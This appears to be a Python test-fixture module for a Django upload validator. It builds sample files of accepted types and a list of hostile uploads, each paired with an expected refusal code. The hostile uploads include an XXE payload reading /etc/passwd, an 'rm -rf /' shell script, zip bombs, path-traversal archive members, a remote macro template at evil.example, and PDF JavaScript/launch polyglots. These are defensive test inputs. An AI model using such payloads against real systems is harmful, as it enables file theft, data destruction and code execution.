"""Small real files of each accepted type, and hostile ones (rule R11), built in memory."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    "</Types>"
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>劳动合同 甲方：云南某建筑劳务有限公司</w:t></w:r></w:p></w:body>"
    "</w:document>"
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheets><sheet name="工资表" sheetId="1"/></sheets></workbook>'
)
XXE = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<Types>&xxe;</Types>"
)


def zip_bytes(members: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def docx() -> bytes:
    return docx_with({})


def docx_with(members: dict[str, bytes | str], *, replace: dict | None = None) -> bytes:
    base = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": RELS,
        "word/document.xml": DOCUMENT,
    }
    base.update(replace or {})
    base.update(members)
    return zip_bytes(base)


def xlsx(members: dict[str, bytes | str] | None = None) -> bytes:
    base = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": RELS.replace("word/document.xml", "xl/workbook.xml"),
        "xl/workbook.xml": WORKBOOK,
        "xl/worksheets/sheet1.xml": "<worksheet><sheetData/></worksheet>",
    }
    base.update(members or {})
    return zip_bytes(base)


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


PDF = (
    b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    + bytes(range(256)) * 4
    + b"\xff\xd9"
)
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
TIFF = b"II*\x00\x08\x00\x00\x00" + b"\x00" * 64
WAV = (
    b"RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00\x40\x1f\x00\x00"
    b"\x80\x3e\x00\x00\x02\x00\x10\x00data\x00\x00\x00\x00"
)
MP3_ID3 = b"ID3\x03\x00\x00\x00\x00\x00\x0a" + b"\x00" * 10 + b"\xff\xfb\x90\x64" + b"\x00" * 413
MP3_FRAME = b"\xff\xfb\x90\x64" + b"\x00" * 413 + b"\xff\xfb\x90\x64" + b"\x00" * 413
M4A = (
    b"\x00\x00\x00\x1cftypM4A \x00\x00\x00\x00M4A mp42isom" + b"\x00\x00\x00\x08free" + b"\x00" * 32
)
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00\x00\x00\x08free"
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 16
AMR = b"#!AMR\n" + b"\x3c" + b"\x00" * 31
TEXT_UTF8 = "2026年3月工资未发放，老板说下个月一起结。\n聊天记录截至 2026-11-01。\n".encode()
TEXT_GB18030 = "欠条：今欠王建国工资人民币壹万贰仟元整。\n".encode("gb18030")
TEXT_BOM = b"\xef\xbb\xbf" + "考勤记录\n".encode()


def ole2(*names: str, body: bytes = b"") -> bytes:
    """An OLE2 (compound file) header and directory entries with these names (enough for the
    sniffer, which looks for the main stream's directory entry)."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    entries = b""
    for name in ("Root Entry", *names):
        raw = name.encode("utf-16-le") + b"\x00\x00"
        entries += raw.ljust(64, b"\x00") + struct.pack("<H", len(raw)) + b"\x00" * 62
    return header + entries + body


DOC = ole2("WordDocument", "1Table", "\x05SummaryInformation")
XLS = ole2("Workbook", "\x05SummaryInformation")

ACCEPTED = {
    "pdf": (PDF, "application/pdf", "pdf"),
    "jpeg": (JPEG, "image/jpeg", "jpg"),
    "png": (png(), "image/png", "png"),
    "gif": (GIF, "image/gif", "gif"),
    "webp": (WEBP, "image/webp", "webp"),
    "tiff": (TIFF, "image/tiff", "tif"),
    "heic": (HEIC, "image/heic", "heic"),
    "wav": (WAV, "audio/wav", "wav"),
    "mp3-id3": (MP3_ID3, "audio/mpeg", "mp3"),
    "mp3-frame": (MP3_FRAME, "audio/mpeg", "mp3"),
    "m4a": (M4A, "audio/mp4", "m4a"),
    "mp4": (MP4, "video/mp4", "mp4"),
    "amr": (AMR, "audio/amr", "amr"),
    "docx": (
        docx(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "docx",
    ),
    "xlsx": (
        xlsx(),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "xlsx",
    ),
    "doc": (DOC, "application/msword", "doc"),
    "xls": (XLS, "application/vnd.ms-excel", "xls"),
    "text-utf8": (TEXT_UTF8, "text/plain; charset=utf-8", "txt"),
    "text-gb18030": (TEXT_GB18030, "text/plain; charset=gb18030", "txt"),
    "text-bom": (TEXT_BOM, "text/plain; charset=utf-8", "txt"),
}


def _zip_lying_about_size() -> bytes:
    """A member whose headers declare 10 bytes but which inflates to 5 MB (zipfile stops at the
    declared size, and the checksum then fails)."""
    data = bytearray(docx_with({"word/media/big.bin": b"\x00" * (5 * 1024 * 1024)}))
    real = struct.pack("<I", 5 * 1024 * 1024)
    fake = struct.pack("<I", 10)
    return bytes(data.replace(real, fake))


def _encrypted_member() -> bytes:
    data = bytearray(docx())
    # set the "encrypted" flag bit in every local and central header
    for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (at := data.find(sig, start)) >= 0:
            data[at + offset] |= 0x01
            start = at + 4
    return bytes(data)


def _duplicate_member() -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w") as z:
        warnings.simplefilter("ignore")  # "Duplicate name" is the point
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("word/document.xml", DOCUMENT)
        z.writestr("word/document.xml", "<w:document/>")
    return buf.getvalue()


# (label, file name, bytes, expected refusal code) — rule R11: at least 30 hostile files
HOSTILE = [
    ("empty", "empty.pdf", b"", "empty"),
    ("random bytes named .pdf", "合同.pdf", bytes(range(256)) * 8, "type"),
    ("no magic, named .jpg", "photo.jpg", b"\x00\x01\x02\x03" * 100, "type"),
    ("HTML named .pdf", "evidence.pdf", b"<html><body>hi</body></html>", "active_content"),
    (
        "HTML after blank lines",
        "page.txt",
        b"\n\n   <!DOCTYPE html><p>x</p>",
        "active_content",
    ),
    (
        "HTML with a UTF-8 BOM",
        "page.txt",
        b"\xef\xbb\xbf<html><script>alert(1)</script>",
        "active_content",
    ),
    (
        "SVG with script",
        "chart.png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "active_content",
    ),
    ("bare XML", "data.txt", b'<?xml version="1.0"?><a>1</a>', "active_content"),
    (
        "text with a script later on",
        "chat.txt",
        "聊天记录\n".encode() * 500 + b"<script>alert(1)</script>",
        "active_content",
    ),
    ("text with a javascript: link", "note.txt", b"click javascript:alert(1)", "active_content"),
    ("Windows program", "setup.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200, "executable"),
    ("ELF program", "photo.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "executable"),
    ("Mach-O program", "doc.docx", b"\xcf\xfa\xed\xfe" + b"\x00" * 200, "executable"),
    ("shell script", "run.txt", b"#!/bin/sh\nrm -rf /\n", "executable"),
    ("WebAssembly", "a.txt", b"\x00asm\x01\x00\x00\x00", "executable"),
    (
        "zip bomb by ratio",
        "bomb.docx",
        docx_with({"word/media/zeros.bin": b"\x00" * (5 * 1024 * 1024)}),
        "zip_bomb",
    ),
    ("zip bomb lying about its size", "bomb2.docx", _zip_lying_about_size(), "archive"),
    (
        "too many members",
        "many.xlsx",
        xlsx({f"xl/m{i}.bin": b"" for i in range(1001)}),
        "zip_bomb",
    ),
    (
        "XXE in a .docx",
        "xxe.docx",
        docx_with({}, replace={"[Content_Types].xml": XXE}),
        "xml_entities",
    ),
    (
        "XXE in a .xlsx",
        "xxe.xlsx",
        xlsx(
            {
                "xl/workbook.xml": WORKBOOK.replace(
                    "<workbook", '<!DOCTYPE w [<!ENTITY e "x">]><workbook'
                )
            }
        ),
        "xml_entities",
    ),
    (
        "XXE hidden in UTF-16",
        "xxe16.xlsx",
        xlsx({"xl/sharedStrings.xml": XXE.replace("UTF-8", "UTF-16").encode("utf-16")}),
        "archive",
    ),
    (
        "XXE hidden in UTF-7",
        "xxe7.docx",
        docx_with(
            {"word/settings.xml": '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-'}
        ),
        "archive",
    ),
    ("member path traversal", "trav.docx", docx_with({"../../evil.sh": "#!/bin/sh"}), "archive"),
    (
        "absolute member path",
        "abs.docx",
        docx_with({"/etc/cron.d/x": "* * * * * root x"}),
        "archive",
    ),
    ("backslash member path", "bs.xlsx", xlsx({"..\\..\\evil.bat": "del *"}), "archive"),
    ("drive-letter member path", "drive.xlsx", xlsx({"C:/Windows/evil.dll": "x"}), "archive"),
    ("encrypted member", "locked.docx", _encrypted_member(), "archive"),
    ("duplicate member", "dup.docx", _duplicate_member(), "archive"),
    ("plain ZIP archive", "archive.docx", zip_bytes({"readme.txt": "hi"}), "type"),
    (
        "Word with macros",
        "macro.docx",
        docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "macro",
    ),
    (
        "Word with a remote template",
        "template.docx",
        docx_with(
            {
                "word/_rels/settings.xml.rels": (
                    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="x">'
                    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                    'officeDocument/2006/relationships/attachedTemplate" '
                    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
                )
            }
        ),
        "macro",
    ),
    ("legacy Word with macros", "old.doc", ole2("WordDocument", "Macros", "VBA"), "macro"),
    ("legacy Excel with VBA", "old.xls", ole2("Workbook", "_VBA_PROJECT_CUR"), "macro"),
    ("OLE2 that is neither", "setup.doc", ole2("SummaryInformation", "Binary"), "type"),
    (
        "password-protected Office",
        "secret.docx",
        ole2("EncryptionInfo", "EncryptedPackage"),
        "archive",
    ),
    (
        "PDF polyglot with HTML",
        "poly.pdf",
        b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF",
        "active_content",
    ),
    (
        "PDF with JavaScript",
        "js.pdf",
        PDF.replace(
            b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
        ),
        "active_content",
    ),
    (
        "PDF that launches a program",
        "launch.pdf",
        PDF.replace(b"/Type /Catalog", b"/OpenAction << /S /Launch /F (calc.exe) >>"),
        "active_content",
    ),
    (
        "JPEG polyglot with HTML",
        "poly.jpg",
        b"\xff\xd8\xff\xfe\x00\x30<html><body><script>alert(1)</script></body></html>" + JPEG[2:],
        "active_content",
    ),
    (
        "GIF polyglot with script",
        "poly.gif",
        b"GIF89a/*<script>alert(1)</script>*/" + GIF[6:],
        "active_content",
    ),
    (
        "PNG with SVG inside",
        "poly.png",
        png()[:33] + b"<svg onload=alert(1)>" + png()[33:],
        "active_content",
    ),
    ("NUL in text", "note.txt", b"hello\x00world", "type"),
    ("control characters in text", "note.txt", b"hello \x1b[31m world", "type"),
    ("neither UTF-8 nor GB18030", "note.txt", b"abc \x80\x80\x80 def", "encoding"),
    ("UTF-16 text", "note.txt", "工资 wages".encode("utf-16"), "encoding"),
    ("QuickTime movie", "clip.mp4", b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  ", "type"),
    ("RAR archive", "a.docx", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 50, "type"),
]


def upload(name: str, data: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
    """An uploaded file whose browser-sent type is whatever the client claims."""
    return SimpleUploadedFile(name, data, content_type=content_type)
